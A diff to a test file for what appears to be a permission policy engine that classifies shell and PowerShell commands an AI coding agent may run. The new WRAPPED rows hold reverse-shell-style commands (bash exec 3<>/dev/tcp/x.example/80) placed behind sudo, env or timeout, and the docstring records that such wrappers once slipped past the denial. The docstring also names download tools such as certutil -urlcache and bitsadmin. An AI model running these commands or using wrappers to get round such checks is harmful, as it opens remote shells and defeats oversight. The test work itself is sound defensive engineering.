@@ -27,14 +27,18 @@ Found and fixed, by class (policy/engine/powershell.py unless said):
   into ~/.profile (the user's PATH, COR_PROFILER... as $env:PATH = ...: unknown); 'Machine' as before.
 - here-strings (@' '@, @" "@) are strings (they were words); -ErrorAction/-EA/-WarningAction VALUE, a
   common parameter, is dropped (Get-Content x -ErrorAction SilentlyContinue was not read); a quoted
-  '~\x' is the home (the provider reads ~ and wildcards: Remove-Item -Path '~/*' DDDDD).
+  '~\x' is the home (the provider reads ~ and wildcards: Remove-Item -Path '~/*' DDDDD); (Get-Location)
+  is $PWD (Split-Path -Leaf (Get-Location) KKKDD -> AAAAA).
+- (policy/engine/destructive.py) a shell reading a socket opened read-write (read-write, <>) is a remote shell
+  behind sudo, env, nice, nohup, command, timeout N too (sudo bash -c 'exec 3<>/dev/tcp/h/80' was asked where the line
+  alone is denied: round 26's wrapper invariant, over the corpus these rows join).
 
 Held: Set-ExecutionPolicy (any scope) KKADD, as an export or a ~/.profile write; bitsadmin /transfer and
 certutil -urlcache KKADD as curl -o; schtasks /create /tr and Register-ScheduledTask of a known command
 KKADD (asked, bypass allows, as echo ... | crontab -); Machine variables DDDDD.
 Left: the PowerShell tool asks every command that is not read-only in accept_edits (dotnet build, npm test,
 New-Item -ItemType Directory: KKADD where Bash's are AAAAD/KAADD); $json = ... | ConvertFrom-Json; ...
-| Set-Content is unknown; Split-Path (Get-Location) and $args splatting are unknown (KKKDD).
+| Set-Content and $args splatting are unknown (KKKDD); (Split-Path (Get-Location)) as a path is unknown.
 """
 from __future__ import annotations
 
@@ -302,6 +306,12 @@ BENIGN = [
     (_ps("foreach ($d in 'bin', 'obj') { if (Test-Path $d) { Remove-Item $d -Recurse -Force } }"), 'KKADD'),
     (_ps('git diff --name-only | ForEach-Object { Write-Host $_ }'), 'AAAAA'),
     (_ps('npm run build 2>&1 | Tee-Object -FilePath build.log'), 'KKADD'),
+    # ((Get-Location), (pwd): the working directory, as $PWD)
+    (_ps('Split-Path -Leaf (Get-Location)'), 'AAAAA'),   # was KKKDD
+    (_ps('Split-Path (Get-Location) -Parent'), 'AAAAA'),   # was KKKDD
+    (_ps('Join-Path (Get-Location) src'), 'AAAAA'),   # was KKKDD
+    (_ps('Remove-Item (Get-Location) -Recurse -Force'), 'KKADD'),
+    (_ps('Remove-Item -Recurse -Force (Split-Path (Get-Location))'), 'KKKDD'),
 ]
 
 
@@ -309,3 +319,22 @@ BENIGN = [
 def test_round45_pwsh45_benign(row) -> None:
     call, expected = row
     assert call_letters(_SNAP, call, cwd=WIN_CWD) == expected
+
+
+# (destructive.py) a shell reading a socket opened read-write, behind a wrapper as alone (round 26's wrapper
+# invariant, over the corpus these rows join)
+WRAPPED = [
+    ("bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),
+    ("sudo bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),   # was KKADD
+    ("sudo -n bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),   # was KKADD
+    ("env bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),   # was KKADD
+    ("timeout 5 bash -c 'exec 3<>/dev/tcp/x.example/80'", 'DDDDD'),   # was KKADD
+    ("timeout 1 bash -c '</dev/tcp/x.example/80'", 'KKADD'),
+    ('sudo apt install netcat-openbsd', 'KKADD'),
+]
+
+
+@pytest.mark.parametrize("row", WRAPPED, ids=_id)
+def test_round45_pwsh45_wrapped(row) -> None:
+    call, expected = row
+    assert call_letters(_SNAP, call) == expected
